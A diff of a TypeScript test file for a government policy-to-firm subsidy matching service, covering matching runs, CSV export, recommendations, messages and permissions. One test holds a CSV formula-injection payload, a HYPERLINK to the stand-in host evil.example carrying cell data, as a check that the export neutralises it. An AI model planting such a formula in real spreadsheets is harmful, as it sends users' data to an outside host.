@@ -1,5 +1,5 @@
 /**
- * 政策找企业 (issue 8): a firm's facts, the bureau's matching run (admin.runMatching and friends),
+ * 政策找企业: a firm's facts, the bureau's matching run (admin.runMatching and friends),
  * 为您推荐 and 消息. Expected firms and amounts are worked out by hand from the notice
  * (docs/policy-rules.md), never from the engine.
  */
@@ -10,8 +10,8 @@ import { FIELD_NAME } from '../../cloudfunctions/_shared/db/cloudbase-limits'
 import { cloudBaseProfile } from '../../server/db/cloudbase-profile'
 import { invoke, type Answer } from '../../server/invoke'
 import { EMPLOYERS } from '../../cloudfunctions/_shared/repositories/employers'
-import { matchingService } from '../../cloudfunctions/_shared/services/matching'
-import type { StoredFile } from '../../cloudfunctions/_shared/storage'
+import { matchingService } from '../../cloudfunctions/_shared/services/admin/matching'
+import type { Output } from '../../cloudfunctions/api'
 import { ADMIN, contextFor, downloadText, testProfile } from '../helpers/context'
 import { CODES, FIRM_A, makeWorld, SEEKER, UNVERIFIED, type World } from '../helpers/firms'
 
@@ -21,34 +21,10 @@ beforeEach(async () => {
 })
 afterEach(() => w.db.close())
 
-interface Firm {
-  employerId: string
-  employerName: string
-  city: string
-  amount: number | null
-  working: string | null
-  missing: string | null
-}
-interface ProvisionResult {
-  key: string
-  eligible: number
-  amount: number
-  needsInfo: number
-  eligibleFirms: Firm[]
-  needsInfoFirms: Firm[]
-}
-interface MatchingData {
-  run: { runId: string; status: string; processed: number; total: number }
-  provisions: ProvisionResult[]
-  cities: { city: string; firms: number; eligible: number; amount: number }[]
-  total: { eligible: number; amount: number }
-}
-interface Progress {
-  runId: string
-  status: 'running' | 'done'
-  processed: number
-  total: number
-}
+type MatchingData = Output<'admin', 'matching'>
+type ProvisionResult = MatchingData['provisions'][number]
+type Firm = ProvisionResult['eligibleFirms'][number]
+type Progress = Output<'admin', 'runMatching'>
 
 let seq = 0
 /** A verified private firm with these stated facts (inserted directly: the registration path is tested elsewhere). */
@@ -66,9 +42,9 @@ async function addFirm(db: Database, name: string, facts: Record<string, unknown
 
 /** Runs a matching as the administrator until it is done; returns the results. */
 async function runAll(asOf: string, opts: { now?: Date } = {}): Promise<MatchingData> {
-  let p = await w.ok<Progress>('admin', ADMIN, { action: 'runMatching', asOf }, opts)
-  while (p.status === 'running') p = await w.ok<Progress>('admin', ADMIN, { action: 'continueMatching', runId: p.runId }, opts)
-  return w.ok<MatchingData>('admin', ADMIN, { action: 'matching', runId: p.runId, limit: 100 }, opts)
+  let p = await w.ok('admin', ADMIN, { action: 'runMatching', asOf }, opts)
+  while (p.status === 'running') p = await w.ok('admin', ADMIN, { action: 'continueMatching', runId: p.runId }, opts)
+  return w.ok('admin', ADMIN, { action: 'matching', runId: p.runId, limit: 100 }, opts)
 }
 
 const byKey = (d: MatchingData, key: string) => d.provisions.find((p) => p.key === key) as ProvisionResult
@@ -140,13 +116,13 @@ describe('admin.runMatching over firms straddling every boundary of measures 15 
     }
     expect(p.total).toBe(252)
     expect(seen).toEqual([100, 200, 252, 252])
-    const d = await w.ok<MatchingData>('admin', ADMIN, { action: 'matching', runId: p.runId })
+    const d = await w.ok('admin', ADMIN, { action: 'matching', runId: p.runId })
     expect(byKey(d, '21/hiring')).toMatchObject({ eligible: 250, amount: 500_000 })
     expect(byKey(d, '21/hiring').eligibleFirms).toHaveLength(20)
-    const page = await w.ok<MatchingData>('admin', ADMIN, { action: 'matching', runId: p.runId, key: '21/hiring', status: 'eligible', offset: 240, limit: 100 })
+    const page = await w.ok('admin', ADMIN, { action: 'matching', runId: p.runId, key: '21/hiring', status: 'eligible', offset: 240, limit: 100 })
     expect(page.provisions).toHaveLength(1)
     expect(page.provisions[0].eligibleFirms).toHaveLength(10)
-    const csv = await w.ok<{ file: StoredFile; rows: number; filename: string }>('admin', ADMIN, { action: 'exportMatching', runId: p.runId })
+    const csv = await w.ok('admin', ADMIN, { action: 'exportMatching', runId: p.runId })
     expect(csv.filename).toBe('政策找企业-2021-12-01.csv')
     const text = downloadText(csv.file)
     const lines = text.trim().split('\r\n')
@@ -163,7 +139,8 @@ describe('admin.runMatching over firms straddling every boundary of measures 15 
     expect(await w.review({ target: 'employer', id, decision: 'approve' })).toMatchObject({ ok: true })
     await w.ok('account', 'u-formula-firm', { action: 'updateFacts', facts: { sizeClass: 'micro', newHires: 2 } })
     const { run } = await runAll('2026-11-28')
-    const csv = await w.ok<{ file: StoredFile }>('admin', ADMIN, { action: 'exportMatching', runId: run.runId })
+    if (!run) throw new Error('the matching run is not stored')
+    const csv = await w.ok('admin', ADMIN, { action: 'exportMatching', runId: run.runId })
     const lines = downloadText(csv.file).split('\r\n')
     expect(lines.filter((l) => l.includes('HYPERLINK'))).toContain(
       `第21条,吸纳就业补助,符合,"'=HYPERLINK(""http://evil.example/x?""&A1,""点此领取补贴"")",${CODES.spare},太原市,小店区,2000,,"1,000元 × 2人 = 2,000元",`,
@@ -191,7 +168,7 @@ describe('a run within CloudBase’s limits (the CloudBase profile)', () => {
     expect(d.run).toMatchObject({ status: 'done', processed: 102 })
     expect(byKey(d, '21/hiring')).toMatchObject({ eligible: 100, amount: 1_000_000 })
     expect(byKey(d, '8/training').eligible).toBe(100)
-    expect((await w.ok<{ unread: number }>('account', `m-firm-${seq}`, { action: 'messages' })).unread).toBe(1)
+    expect((await w.ok('account', `m-firm-${seq}`, { action: 'messages' })).unread).toBe(1)
   })
 
   it('retries a batch that ran past the function’s timeout with fewer firms, and counts each firm once', async () => {
@@ -209,7 +186,7 @@ describe('a run within CloudBase’s limits (the CloudBase profile)', () => {
     expect(answers.some((a) => !a.ok && a.error.code === 'FUNCTIONS_TIME_LIMIT_EXCEEDED')).toBe(true)
     const last = answers[answers.length - 1]
     expect(last).toMatchObject({ ok: true, data: { status: 'done', processed: 102 } })
-    const d = await w.ok<MatchingData>('admin', ADMIN, { action: 'matching', runId, limit: 100 })
+    const d = await w.ok('admin', ADMIN, { action: 'matching', runId, limit: 100 })
     expect(byKey(d, '21/hiring')).toMatchObject({ eligible: 100, amount: 1_000_000 })
     expect(byKey(d, '21/hiring').eligibleFirms).toHaveLength(100)
     // Written twice by a retried batch, still one recommendation and one message per firm.
@@ -232,27 +209,20 @@ describe('a run within CloudBase’s limits (the CloudBase profile)', () => {
 
   it('as of another day than today is a simulation: results for the bureau, nothing for the firms', async () => {
     await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 12 } })
-    const started = await w.ok<Progress & { simulation: boolean; note: string | null }>('admin', ADMIN, { action: 'runMatching', asOf: '2026-01-05' })
+    const started = await w.ok('admin', ADMIN, { action: 'runMatching', asOf: '2026-01-05' })
     expect(started).toMatchObject({ simulation: true, note: expect.stringContaining('模拟比对') })
     let p: Progress = started
-    while (p.status === 'running') p = await w.ok<Progress>('admin', ADMIN, { action: 'continueMatching', runId: p.runId })
-    const d = await w.ok<MatchingData>('admin', ADMIN, { action: 'matching', runId: p.runId })
+    while (p.status === 'running') p = await w.ok('admin', ADMIN, { action: 'continueMatching', runId: p.runId })
+    const d = await w.ok('admin', ADMIN, { action: 'matching', runId: p.runId })
     expect(namesAmounts(byKey(d, '21/hiring').eligibleFirms)).toEqual({ 大同甲机械有限公司: 12_000 })
     expect(await w.count('messages')).toBe(0)
-    expect((await w.ok<{ items: unknown[] }>('account', FIRM_A, { action: 'recommendations' })).items).toEqual([])
+    expect((await w.ok('account', FIRM_A, { action: 'recommendations' })).items).toEqual([])
     expect(await w.ok('admin', ADMIN, { action: 'runMatching', asOf: '2026-11-28' })).toMatchObject({ simulation: false, note: null })
   })
 })
 
 describe('为您推荐 and 消息', () => {
-  interface Recs {
-    items: { key: string; amount: number | null; working: string | null }[]
-  }
-  interface Messages {
-    items: { title: string; body: string; read: boolean; id: string }[]
-    unread: number
-  }
-  const recs = () => w.ok<Recs>('account', FIRM_A, { action: 'recommendations' })
+  const recs = () => w.ok('account', FIRM_A, { action: 'recommendations' })
 
   it('appears after a run, messages the firm once, and disappears when its facts change', async () => {
     await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 12 } })
@@ -260,16 +230,16 @@ describe('为您推荐 and 消息', () => {
     await runAll('2026-11-28')
     // Firm A: industry, 50 staff, 10 million yuan revenue → small; 12 hires × 1000.
     expect((await recs()).items).toEqual([expect.objectContaining({ key: '21/hiring', amount: 12_000, working: '1,000元 × 12人 = 12,000元' })])
-    const m1 = await w.ok<Messages>('account', FIRM_A, { action: 'messages' })
+    const m1 = await w.ok('account', FIRM_A, { action: 'messages' })
     expect(m1.unread).toBe(1)
     expect(m1.items[0].body).toContain('第21条 吸纳就业补助 12,000元')
 
     // The same finding again is not news.
     await runAll('2026-11-28')
-    expect((await w.ok<Messages>('account', FIRM_A, { action: 'messages' })).items).toHaveLength(1)
+    expect((await w.ok('account', FIRM_A, { action: 'messages' })).items).toHaveLength(1)
 
     await w.ok('account', FIRM_A, { action: 'readMessages' })
-    expect((await w.ok<Messages>('account', FIRM_A, { action: 'messages' })).unread).toBe(0)
+    expect((await w.ok('account', FIRM_A, { action: 'messages' })).unread).toBe(0)
 
     await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 0 } })
     expect((await recs()).items).toEqual([])
@@ -281,7 +251,7 @@ describe('为您推荐 and 消息', () => {
     await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 5, interns: 2, internMonths: 3, localMinimumWage: 1880 } })
     await runAll('2026-11-28')
     expect((await recs()).items.map((r) => r.key).sort()).toEqual(['21/hiring', '22/internship'])
-    const res = await w.ok<{ facts: { name: string; value: unknown; statedAt: string | null }[] }>('account', FIRM_A, {
+    const res = await w.ok('account', FIRM_A, {
       action: 'disputeMatch', measure: 21, provision: 'hiring', facts: { newHires: 0 },
     })
     expect(res.facts.find((f) => f.name === 'newHires')).toMatchObject({ value: 0, statedAt: expect.any(String) })
@@ -292,7 +262,7 @@ describe('为您推荐 and 消息', () => {
 
   it('shows the facts with their dates: the profile’s and those stated since', async () => {
     await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { insuredStaff: 40, employees: 55 } })
-    const f = await w.ok<{ version: number; facts: { name: string; value: unknown; source: string | null; statedAt: string | null; editable: boolean }[] }>('account', FIRM_A, { action: 'facts' })
+    const f = await w.ok('account', FIRM_A, { action: 'facts' })
     expect(f.version).toBe(1)
     const get = (n: string) => f.facts.find((x) => x.name === n)
     expect(get('ownership')).toMatchObject({ value: 'private', source: 'profile', editable: false })
@@ -300,7 +270,7 @@ describe('为您推荐 and 消息', () => {
     expect(get('insuredStaff')).toMatchObject({ value: 40, source: 'stated' })
     expect(get('newHires')).toMatchObject({ value: null, statedAt: null })
     await w.ok('account', FIRM_A, { action: 'updateFacts', clear: ['insuredStaff'] })
-    const g = await w.ok<{ facts: { name: string; value: unknown }[] }>('account', FIRM_A, { action: 'facts' })
+    const g = await w.ok('account', FIRM_A, { action: 'facts' })
     expect(g.facts.find((x) => x.name === 'insuredStaff')?.value).toBeNull()
   })
 
@@ -334,8 +304,8 @@ describe('permissions and bad input', () => {
 
   it('lets the administrator read a run and nobody else', async () => {
     const d = await runAll('2026-11-28')
-    expect(d.run.status).toBe('done')
-    expect(await w.call('admin', FIRM_A, { action: 'matching', runId: d.run.runId })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } })
+    expect(d.run?.status).toBe('done')
+    expect(await w.call('admin', FIRM_A, { action: 'matching', runId: d.run?.runId })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } })
     expect(await w.call('admin', ADMIN, { action: 'matching', runId: 'no-such-run' })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } })
   })
 
